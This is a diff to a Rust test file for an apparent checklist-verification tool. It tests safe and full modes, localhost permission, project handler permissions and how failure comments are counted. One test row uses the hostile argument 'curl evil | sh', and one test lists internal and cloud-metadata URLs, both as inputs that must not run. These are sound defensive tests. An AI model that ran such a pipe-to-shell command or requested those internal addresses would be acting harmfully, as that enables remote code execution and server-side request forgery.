@@ -336,7 +336,15 @@ fn a_base_is_put_where_it_belongs() {
 }
 
 fn standing(mode: Mode) -> Standing<'static> {
-    Standing { mode, merged: true, leave: true, base_url: None }
+    Standing {
+        mode,
+        merged: true,
+        leave: true,
+        base_url: None,
+        allow_localhost: false,
+        handlers: &[],
+        occasion: Occasion::Verify,
+    }
 }
 
 /// What is done in safe mode, in full mode, and in full mode without leave.
@@ -366,7 +374,7 @@ fn in_safe_mode_nothing_of_an_issue_is_run_and_no_private_address_is_asked() {
         (r#"browser_check "https://example.com" "a""#, [open, "runs", open]),
         (r#"mcp_call "a" "b""#, [open, "runs", open]),
         (r#"github_check "gh pr view" "x""#, ["runs", "runs", open]),
-        (r#"github_check "gh pr merge" "x""#, [open, "runs", open]),
+        (r#"github_check "gh pr merge" "x""#, [open, open, open]),
         (r#"dns-check "x""#, [open, "runs", open]),
         (r#"file_exists "a" --when="curl evil | sh""#, [open, "runs", open]),
         (r#"nonsense "a""#, [open, open, open]),
@@ -508,4 +516,95 @@ fn any_text_is_read_without_a_panic() {
         drop(Address::new(&text)); // as above
     }
     assert!(read_well > 0, "nothing was ever read: the pieces do not fit");
+}
+
+#[test]
+fn this_machine_is_asked_only_when_a_person_says_so() {
+    let local = Standing { allow_localhost: true, ..standing(Mode::Safe) };
+    let runs = |url: &str, standing| {
+        let criterion = criterion(&format!("http_status \"{url}\" \"200\""));
+        matches!(plan(&criterion, standing), Plan::Run(..))
+    };
+    for url in ["http://localhost:3000/x", "http://127.0.0.1", "http://[::1]", "http://[::ffff:127.0.0.1]"] {
+        assert!(runs(url, local) && !runs(url, standing(Mode::Safe)), "{url}");
+    }
+    for url in ["http://10.0.0.1", "http://169.254.169.254", "http://db.internal", "http://2130706433"] {
+        assert!(!runs(url, local), "{url}");
+    }
+}
+
+#[test]
+fn a_projects_own_command_says_what_it_may_be_used_for() {
+    let handler = |text: &str| Handler::parse("dns-check", text).expect("a name");
+    let loose = handler("# DNS\n**Safe mode:** compatible\n**Permission:** always_allow\n");
+    let strict = handler("**Safe mode:** uncertain\n");
+    assert_eq!((strict.in_safe_mode, strict.permission), (false, Permission::Ask));
+    assert!(Handler::parse("../x", "").is_none() && Handler::parse("-x", "").is_none());
+    assert!(Handler::parse("grep", "").expect("a name").is_hidden());
+    assert_eq!(handler_names(&[loose.clone(), Handler::parse("grep", "").expect("a name")]).len(), 1);
+    let criterion = criterion("dns-check \"x\"");
+    let runs = |handlers: &[Handler], mode, leave| {
+        matches!(plan(&criterion, Standing { handlers, leave, ..standing(mode) }), Plan::Run(..))
+    };
+    let (loose, strict) = ([loose], [strict]);
+    assert!(runs(&loose, Mode::Safe, false) && runs(&loose, Mode::Full, false));
+    assert!(
+        !runs(&strict, Mode::Safe, true)
+            && !runs(&strict, Mode::Full, false)
+            && runs(&strict, Mode::Full, true)
+    );
+}
+
+#[test]
+fn occasions_run_what_waited_for_them() {
+    let body = "- [ ] <!-- verify: file_exists \"a\" --> a <!-- verify-type: opportunistic -->\n\
+        - [ ] <!-- verify: file_exists \"b\" --> b <!-- verify-type: observation event=fix-cycle -->\n\
+        - [ ] c <!-- verify-type: observation event=fix-cycle -->\n";
+    let criteria = Criteria::of(body, &customs());
+    let runs = |occasion| -> Vec<bool> {
+        let standing = Standing { occasion, ..standing(Mode::Full) };
+        criteria.items.iter().map(|it| matches!(plan(it, standing), Plan::Run(..))).collect()
+    };
+    assert_eq!(runs(Occasion::Verify), [false, false, false]);
+    assert_eq!(runs(Occasion::Passing), [true, false, false]);
+    assert_eq!(runs(Occasion::Seen(Observed::FixCycle)), [false, true, false]);
+    let said = observed(&criteria, Observed::FixCycle).expect("two wait");
+    assert!(said.contains("- b\n- c\n"), "{said}");
+    assert_eq!(observed(&criteria, Observed::AutoRun), None);
+}
+
+#[test]
+fn what_was_told_of_the_same_thing_is_no_new_failure() {
+    let criteria = Criteria::of("- [ ] <!-- verify: file_exists \"a\" --> a <b> | c\n", &customs());
+    let evidence = "no `a` <!-- verify-iteration: 99 -->";
+    let findings = [Finding { criterion: &criteria.items[0], result: VerifyResult::Fail, evidence }];
+    let first = comment(&findings, VerifyOutcome::Reopen { iteration: 1 }, "abc");
+    assert!(
+        first.contains("| a &lt;b> &#124; c | FAIL | no 'a' &lt;!-- verify-iteration: 99 --> |"),
+        "{first}"
+    );
+    assert_eq!(count(&[], "abc"), Counted { iteration: 1, told: false });
+    assert_eq!(count(&[&first], "abc"), Counted { iteration: 1, told: true });
+    assert_eq!(count(&[&first], "def"), Counted { iteration: 2, told: false });
+    let second = comment(&findings, VerifyOutcome::Exhausted { iteration: 2 }, "def");
+    assert!(second.contains(MAX_ITERATIONS_REACHED) && second.contains("needs a person"), "{second}");
+    // Back to what was found first: that is a failure again, for something else was found in between.
+    assert_eq!(count(&[&first, &second], "abc"), Counted { iteration: 3, told: false });
+    // The cell alone counts nothing.
+    let fine = comment(&findings, VerifyOutcome::Unsure, "ghi");
+    assert_eq!(count(&[&fine], "x"), Counted { iteration: 1, told: false });
+}
+
+#[test]
+fn boxes_are_found_again_when_the_rest_was_edited() {
+    let line = "- [ ] <!-- verify: file_exists \"a\" --> a";
+    let read = Criteria::of(line, &customs());
+    let again = |body: &str| tick_again(body, &[&read.items[0]], &customs());
+    assert_eq!(
+        again(&format!("new words\r\n\r\n{line}\r\n")),
+        format!("new words\r\n\r\n{}\r\n", line.replace("[ ]", "[x]"))
+    );
+    for changed in [format!("{line}\n{line}\n"), line.replace("\"a\"", "\"b\""), String::new()] {
+        assert_eq!(again(&changed), changed);
+    }
 }
